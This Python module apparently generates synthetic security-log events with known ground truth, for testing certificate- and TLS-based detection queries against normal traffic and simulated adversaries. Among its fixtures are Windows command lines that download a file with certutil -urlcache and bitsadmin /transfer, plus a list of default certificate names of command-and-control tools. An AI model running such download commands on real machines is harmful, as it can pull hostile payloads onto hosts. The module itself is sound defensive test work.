"""Events with known truth, as a console would hold them: ordinary traffic, its usual false alarms, and adversaries.

Payloads are written in the vendors' forms, and the custom properties are what the kit's expressions make of them, so
that a query stands and falls with the kit. The same seed gives the same events.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from certhound.techniques.package import Kit

START = 1_790_000_000_000
"""Epoch milliseconds of the first event; all are within a day."""
DAY = 86_400_000 - 60_000

ZSCALER, FORTIGATE, PALO_ALTO, WINDOWS, SURICATA = 331, 73, 206, 12, 506
ALLOWED = ("203.0.113.40",)
"""Content of the reference set of allowed destinations."""

Row = dict[str, object]
Entity = tuple[str, str, str]
"""Source address, destination address, user: what a row of a result is about."""


@dataclass(slots=True)
class World:
    """The rows, and which entities in them are an adversary's, by the kind of it."""

    rows: list[Row] = field(default_factory=list)
    truth: dict[Entity, str] = field(default_factory=dict)


def entity(source: object, destination: object, user: object) -> Entity:
    return (str(source), str(destination), str(user or ""))


def generate(kit: Kit, count: int = 20_000, seed: int = 1) -> World:
    """About ``count`` events of one day."""
    maker = _Maker(kit, random.Random(seed))  # noqa: S311 - a simulation
    while len(maker.world.rows) < count:
        maker.ordinary()
    for kind, entities, plot in _PLOTS:
        for number in range(entities):
            maker.adversary(kind, number, plot)
    for number in range(6):
        maker.laboratory(number)
    maker.world.rows.sort(key=lambda row: str(row["starttime"]))
    return maker.world


class _Maker:
    def __init__(self, kit: Kit, chance: random.Random) -> None:
        self.chance = chance
        self.world = World()
        self._expressions: dict[int, list[tuple[str, re.Pattern[str]]]] = {}
        for each in kit.property:
            compiled = re.compile(each.expression)
            self._expressions.setdefault(each.log_source_type, []).append((each.name, compiled))

    def add(self, kind: int, source: str, destination: str, port: int, user: str, payload: str) -> Entity:
        """One event, its properties taken out of its payload."""
        moment = START + self.chance.randrange(DAY)
        row: Row = {
            "starttime": moment, "endtime": moment, "devicetime": moment - self.chance.randrange(90_000),
            "devicetype": kind, "sourceip": source, "destinationip": destination, "destinationport": port,
            "username": user, "eventcount": 1, "payload": payload,
        }  # fmt: skip
        if kind == WINDOWS:
            row["EventID"] = "4688"
        for name, expression in self._expressions.get(kind, ()):
            found = expression.search(payload)
            if found and name not in row:
                row[name] = found[1]
        self.world.rows.append(row)
        return entity(source, destination, user)

    def client(self) -> tuple[str, str]:
        number = self.chance.randrange(1, 240)
        return f"10.0.{number % 4}.{number}", f"user{number}"

    def proxy(self, host: str, destination: str, path: str = "", flags: str = "", port: int = 443) -> Entity:
        source, user = self.client()
        return self.from_client(source, user, host, destination, path, flags, port)

    def from_client(
        self, source: str, user: str, host: str, destination: str, path: str, flags: str, port: int
    ) -> Entity:
        shown = host if port == 443 else f"{host}:{port}"
        verdict = flags or "srvcertchainvalpass=Pass\tis_sslselfsigned=No\tis_ssluntrustedca=No"
        payload = (
            f"LEEF:1.0|Zscaler|NSS|4.1|Allowed|cat=Allowed\tsrc={source}\tdst={destination}\tusrName={user}"
            f"\turl={shown}/{path}\taction=Allowed\t{verdict}"
        )
        return self.add(ZSCALER, source, destination, port, user, payload)

    def process(self, image: str, command: str, client: tuple[str, str] | None = None) -> Entity:
        source, user = client or self.client()
        payload = (
            f"AgentDevice=WindowsLog\tEventID=4688\tComputer=pc-{user}"
            f"\tNew Process Name:\tC:\\Windows\\System32\\{image}"
            f"\tCreator Process Name:\tC:\\Windows\\explorer.exe\tProcess Command Line:\t{command}\tEnd"
        )
        return self.add(WINDOWS, source, "0.0.0.0", 0, user, payload)  # noqa: S104 - Ariel's empty address

    def decryption(self, host: str, destination: str, status: str, issuer: str, port: int = 443) -> Entity:
        source, user = self.client()
        payload = (
            f"LEEF:1.0|Palo Alto Networks|PAN-OS Syslog Integration|11.1|decryption|src={source}|dst={destination}"
            f"|dstPort={port}|SNI={host}|ChainStatus={status}|SubjectName={host}|IssuerName={issuer}|"
        )
        return self.add(PALO_ALTO, source, destination, port, user, payload)

    def sensor(self, host: str, destination: str, subject: str, issuer: str, port: int = 443) -> Entity:
        source, _ = self.client()
        name = f',"sni":"{host}"' if host else ""
        payload = (
            f'{{"event_type":"tls","src_ip":"{source}","dest_ip":"{destination}","dest_port":{port},'
            f'"tls":{{"subject":"{subject}","issuerdn":"{issuer}"{name}}}}}'
        )
        return self.add(SURICATA, source, destination, port, "", payload)

    def firewall(self, host: str, destination: str, tail: str, port: int = 443) -> Entity:
        source, user = self.client()
        payload = (
            f'type="utm" subtype="ssl" action="passthrough" srcip={source} dstip={destination} dstport={port} '
            f'sni="{host}" {tail}'
        )
        return self.add(FORTIGATE, source, destination, port, user, payload)

    def ordinary(self) -> None:
        """One event of a working day, with hygiene problems as often as they are met."""
        kind, site = self.chance.random(), self.chance.randrange(400)
        host, destination = f"www.site{site}.example", f"198.18.{site % 200}.{1 + site // 2}"
        if kind < 0.45:
            path = self.chance.choices(("", "index.html", "download/setup.exe", "lib/x.bin"), (80, 17, 2, 1))[0]
            self.proxy(host, destination, path)
        elif kind < 0.455:
            self.proxy("paste.share.example", "198.18.250.9", "raw/1")
        elif kind < 0.465:
            self.proxy(host, destination, "", "srvcertchainvalpass=Fail\tis_sslexpiredca=Yes")
        elif kind < 0.475:
            self.proxy(f"nas{site % 9}.partner.example", f"198.18.240.{site % 9}", "", "is_sslselfsigned=Yes")
        elif kind < 0.48:
            self.proxy(f"login-{site % 5}.bank.example", f"198.18.241.{site % 5}", "signin")
        elif kind < 0.75:
            self.process(*self.chance.choice(_COMMANDS))
        elif kind < 0.87:
            self.decryption(host, destination, "Trusted", "DigiCert TLS RSA CA")
        elif kind < 0.94:
            self.sensor(host, destination, f"CN={host}", "C=US, O=Let's Encrypt, CN=R13")
        else:
            self.firewall(host, destination, f'certhash="00aa" cn="{host}" issuer="Sectigo CA"')

    def adversary(self, kind: str, number: int, plot: Callable[[_Maker, int], Iterator[Entity]]) -> None:
        for found in plot(self, number):
            self.world.truth[found] = kind

    def laboratory(self, number: int) -> None:
        """Innocent, and looks guilty: devices reached by address on odd ports; the first is on the allow list."""
        for _ in range(4):
            client = f"10.9.0.{number + 1}", f"lab{number}"
            destination = f"203.0.113.{40 + number}"
            self.from_client(
                *client, destination, destination, "", "is_sslselfsigned=Yes", 8443 if number % 2 else 9443
            )


_COMMANDS = (
    ("svchost.exe", "svchost.exe -k netsvcs"), ("notepad.exe", "notepad.exe report.txt"),
    ("msedge.exe", "msedge.exe --type=renderer"), ("certutil.exe", "certutil -hashfile setup.exe SHA256"),
    ("certutil.exe", "certutil -store my"), ("openssl.exe", "openssl version"), ("cmd.exe", "cmd.exe /c dir"),
    ("powershell.exe", "powershell.exe -File backup.ps1"), ("backgroundTaskHost.exe", "backgroundTaskHost.exe"),
)  # fmt: skip

_TOOLS = ("CN=Major Cobalt Strike", "CN=AsyncRAT Server", "O=Mythic", "CN=Covenant", "CN=DcRat", "CN=Quasar Server CA")


def _tool_default(maker: _Maker, number: int) -> Iterator[Entity]:
    subject = _TOOLS[number % len(_TOOLS)]
    for _ in range(3):
        yield maker.sensor("", f"192.0.2.{10 + number}", subject, subject, (443, 7443, 8443)[number % 3])


def _bare_address(maker: _Maker, number: int) -> Iterator[Entity]:
    destination, client = f"192.0.2.{40 + number}", maker.client()
    for _ in range(12):
        yield maker.from_client(
            *client, destination, destination, "api", "is_sslselfsigned=Yes", (443, 4443)[number % 2]
        )


def _claimed_issuer(maker: _Maker, number: int) -> Iterator[Entity]:
    yield maker.decryption(f"cdn{number}.quiet.example", f"192.0.2.{70 + number}", "Untrusted", "R13 Let's Encrypt")


def _phishing_page(maker: _Maker, number: int) -> Iterator[Entity]:
    host, destination = f"login-{number}.contoso-support.example", f"192.0.2.{90 + number}"
    for _ in range(3):
        yield maker.proxy(host, destination, "signin", "srvcertchainvalpass=Fail\tis_ssluntrustedca=Yes")


def _fetch_by_host(maker: _Maker, number: int) -> Iterator[Entity]:
    url = f"http://192.0.2.{120 + number}/a.dat"
    pair = ("certutil.exe", f"certutil -urlcache -f {url} a") if number % 3 else (
        "bitsadmin.exe", f"bitsadmin /transfer j {url} c:\\a")  # fmt: skip
    client = f"10.8.0.{number + 1}", f"victim{number}"
    yield maker.process(*pair, client=client)


def _valid_certificate(maker: _Maker, number: int) -> Iterator[Entity]:
    client = maker.client()
    for _ in range(20):
        yield maker.from_client(*client, f"metrics{number}.example", f"192.0.2.{150 + number}", "v1", "", 443)


def _expired_only(maker: _Maker, number: int) -> Iterator[Entity]:
    yield maker.proxy(f"old{number}.example", f"192.0.2.{170 + number}", "", "is_sslexpiredca=Yes")


_PLOTS: tuple[tuple[str, int, Callable[[_Maker, int], Iterator[Entity]]], ...] = (
    ("a tool's default certificate", 6, _tool_default),
    ("self-signed, reached by address", 6, _bare_address),
    ("a forged issuer", 4, _claimed_issuer),
    ("a sign-in page nobody vouches for", 5, _phishing_page),
    ("fetched by a tool of Windows", 6, _fetch_by_host),
    ("a valid public certificate", 5, _valid_certificate),
    ("expired and nothing else", 3, _expired_only),
)
"""What adversaries do: kind, number of servers or hosts, the events. The last two are out of reach on purpose."""
